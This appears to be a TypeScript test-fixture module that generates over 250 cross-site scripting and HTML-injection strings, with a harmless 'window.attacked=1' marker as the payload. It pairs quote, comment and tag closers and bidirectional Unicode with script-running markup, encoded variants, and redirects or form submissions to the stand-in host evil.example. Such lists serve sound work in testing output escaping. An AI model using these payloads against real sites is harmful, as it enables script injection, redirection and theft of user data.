/** What a hostile script leaves behind when it runs. */
export const ATTACK = 'window.attacked=1'

/** Texts that end the element, attribute, comment or direction in which a page prints them. */
const ENDINGS = [
  '',
  '">',
  "'>",
  '" ',
  '-->',
  '</textarea>',
  '</title>',
  '</style></script>',
  '</bdi></p></div></main>',
  '</option></select>',
  'اضغط هنا ',
  '\u202e',
  '\u2066\u2067مرحبا\u2069',
]

/** Markup that runs a script, leads away, or changes what a page shows. */
const MARKUP = [
  `<script>${ATTACK}</script>`,
  `<ScRiPt/x>${ATTACK}</ScRiPt>`,
  `<img src=x onerror=${ATTACK}>`,
  `<svg onload=${ATTACK}>`,
  `<svg><animate onbegin=${ATTACK} attributeName=x dur=1s>`,
  `<math><mtext><style><img src=x onerror=${ATTACK}></style></mtext></math>`,
  `<details open ontoggle=${ATTACK}>`,
  `<video><source onerror=${ATTACK}></video>`,
  `<iframe srcdoc="<script>parent.${ATTACK}</script>"></iframe>`,
  `<object data="javascript:${ATTACK}"></object>`,
  `<body onload=${ATTACK}>`,
  `<input autofocus onfocus=${ATTACK}>`,
  `<a href="javascript:${ATTACK}">اضغط هنا</a>`,
  `<form action="https://evil.example"><button>أرسل</button></form>`,
  '<style>main{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<template><!--',
  '<plaintext>',
]

/** Texts that are harmful without a tag: in an attribute, in an address, or when they are decoded twice. */
const OTHER_TEXTS = [
  `&lt;script&gt;${ATTACK}&lt;/script&gt;`,
  `&#60;img src=x onerror=${ATTACK}&#62;`,
  `\\u003cscript\\u003e${ATTACK}\\u003c/script\\u003e`,
  `%3Cscript%3E${ATTACK}%3C/script%3E`,
  `" onmouseover=${ATTACK} x="`,
  `' onfocus=${ATTACK} autofocus='`,
  `javascript:${ATTACK}`,
  `'-${ATTACK}-'`,
  `\${${ATTACK}}{{${ATTACK}}}`,
  `＜script＞${ATTACK}＜/script＞`,
]

/** More than 250 texts that a page which prints them unescaped would run, or that would change what the page shows. */
export const HOSTILE_TEXTS = [
  ...ENDINGS.flatMap((ending) => MARKUP.map((markup) => `${ending}${markup}`)),
  ...OTHER_TEXTS,
]
